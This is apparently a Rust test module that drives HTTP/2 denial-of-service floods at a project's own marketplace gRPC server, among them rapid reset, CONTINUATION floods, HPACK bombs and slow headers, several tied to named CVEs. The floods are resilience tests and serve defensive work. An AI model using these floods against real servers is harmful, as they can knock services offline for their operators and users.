//! Floods of HTTP/2 frames on connections of a party.

use std::time::Duration;

use souk_testkit::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_FRAME_BYTES, PING, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, block, call_headers, frame, indexed, indexing, setting,
};
use tokio::time::sleep;

use crate::hostile::{
    attacker::{Attacker, Who},
    case::cases,
};

cases!(
    Market 4 rapid_reset "streams that are reset at once (CVE-2023-44487)",
    Market 4 made_you_reset "streams that the market has to reset (CVE-2025-8671)",
    Market 4 continuations "a header block that never ends (CVE-2024-27316)",
    Market 4 settings "SETTINGS, each of which is acknowledged (CVE-2019-9515)",
    Market 4 table_sizes "SETTINGS that change the size of the header table",
    Market 4 pings "PING, each of which is answered (CVE-2019-9512)",
    Market 4 window_updates "WINDOW_UPDATE of one byte",
    Market 4 priorities "PRIORITY",
    Market 4 unknown_frames "frames of a type that does not exist",
    Market 4 empty_data "DATA without a byte (CVE-2019-9518)",
    Market 4 hpack_bombs "headers of 60 MB in 16 KB (CVE-2016-6581)",
    Market 4 large_metadata "metadata of 64 KiB",
    Market 4 many_metadata "2,000 entries of metadata",
    Market 60 slow_headers "a byte of a header block every 100 ms",
);

const WHO_AM_I: &str = "/shopping.v1.SessionService/WhoAmI";
const HEADER_TABLE_SIZE: u16 = 1;
const SLOW: Duration = Duration::from_millis(100);

fn post() -> Vec<u8> {
    block(&call_headers("market.souk.internal", WHO_AM_I, &[]))
}

/// Sends the same frame again and again.
async fn flood(attacker: Attacker, bytes: Vec<u8>) -> anyhow::Result<()> {
    Ok(attacker.link(Who::Buyer).await?.flood(|_| bytes.clone()).await?)
}

async fn rapid_reset(attacker: Attacker) -> anyhow::Result<()> {
    let post = post();
    let frames =
        |stream| [frame(HEADERS, END_HEADERS, stream, &post), frame(RST_STREAM, 0, stream, &CANCEL)].concat();
    Ok(attacker.link(Who::Buyer).await?.flood(frames).await?)
}

async fn made_you_reset(attacker: Attacker) -> anyhow::Result<()> {
    let post = post();
    // An increment of 0 is an error of the stream (RFC 9113 §6.9).
    let frames = |stream| {
        [frame(HEADERS, END_HEADERS, stream, &post), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
    };
    Ok(attacker.link(Who::Buyer).await?.flood(frames).await?)
}

async fn continuations(attacker: Attacker) -> anyhow::Result<()> {
    let mut link = attacker.link(Who::Buyer).await?;
    link.send(&frame(HEADERS, 0, 1, &post())).await?;
    let more = frame(CONTINUATION, 0, 1, &block(&[("x-more", &"and more ".repeat(10))]));
    Ok(link.flood(|_| more.clone()).await?)
}

async fn settings(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, frame(SETTINGS, 0, 0, &[])).await
}

async fn table_sizes(attacker: Attacker) -> anyhow::Result<()> {
    let sizes = [0, 65_536].map(|size| frame(SETTINGS, 0, 0, &setting(HEADER_TABLE_SIZE, size)));
    flood(attacker, sizes.concat()).await
}

async fn pings(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, frame(PING, 0, 0, &[0; 8])).await
}

async fn window_updates(attacker: Attacker) -> anyhow::Result<()> {
    let mut link = attacker.link(Who::Buyer).await?;
    link.send(&frame(HEADERS, END_HEADERS, 1, &post())).await?;
    let one = frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
    Ok(link.flood(|_| one.clone()).await?)
}

async fn priorities(attacker: Attacker) -> anyhow::Result<()> {
    let frames = |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
    Ok(attacker.link(Who::Buyer).await?.flood(frames).await?)
}

async fn unknown_frames(attacker: Attacker) -> anyhow::Result<()> {
    flood(attacker, frame(0xbe, 0, 0, &[])).await
}

async fn empty_data(attacker: Attacker) -> anyhow::Result<()> {
    let mut link = attacker.link(Who::Buyer).await?;
    link.begin(&attacker.headers(Who::Buyer, "SessionService/WhoAmI")).await?;
    let nothing = frame(DATA, 0, 1, &[]);
    Ok(link.flood(|_| nothing.clone()).await?)
}

async fn hpack_bombs(attacker: Attacker) -> anyhow::Result<()> {
    let mut link = attacker.link(Who::Buyer).await?;
    let mut first = true;
    let frames = |stream| {
        let mut block = post();
        if std::mem::take(&mut first) {
            block.extend(indexing("x-bomb", &"x".repeat(3_900)));
        }
        let reference = indexed(62);
        block.extend(std::iter::repeat_n(reference, MAX_FRAME_BYTES - 4_096).flatten());
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
    };
    Ok(link.flood(frames).await?)
}

/// Sends calls whose header blocks are longer than a frame.
async fn large_blocks(attacker: Attacker, metadata: Vec<u8>) -> anyhow::Result<()> {
    let block = [post(), metadata].concat();
    let frames = |stream| {
        let parts: Vec<_> = block.chunks(MAX_FRAME_BYTES).collect();
        let mut bytes = frame(HEADERS, END_STREAM, stream, parts[0]);
        for (number, part) in parts.iter().enumerate().skip(1) {
            let flags = if number + 1 == parts.len() { END_HEADERS } else { 0 };
            bytes.extend(frame(CONTINUATION, flags, stream, part));
        }
        bytes
    };
    Ok(attacker.link(Who::Buyer).await?.flood(frames).await?)
}

async fn large_metadata(attacker: Attacker) -> anyhow::Result<()> {
    large_blocks(attacker, block(&[("x-large", &"x".repeat(64 * 1024))])).await
}

async fn many_metadata(attacker: Attacker) -> anyhow::Result<()> {
    large_blocks(attacker, block(&[("x-many", "of them all")]).repeat(2_000)).await
}

async fn slow_headers(attacker: Attacker) -> anyhow::Result<()> {
    let mut link = attacker.link(Who::Buyer).await?;
    link.send(&frame(HEADERS, 0, 1, &post())).await?;
    loop {
        link.send(&frame(CONTINUATION, 0, 1, &[])).await?;
        attacker.hit().await;
        sleep(SLOW).await;
    }
}
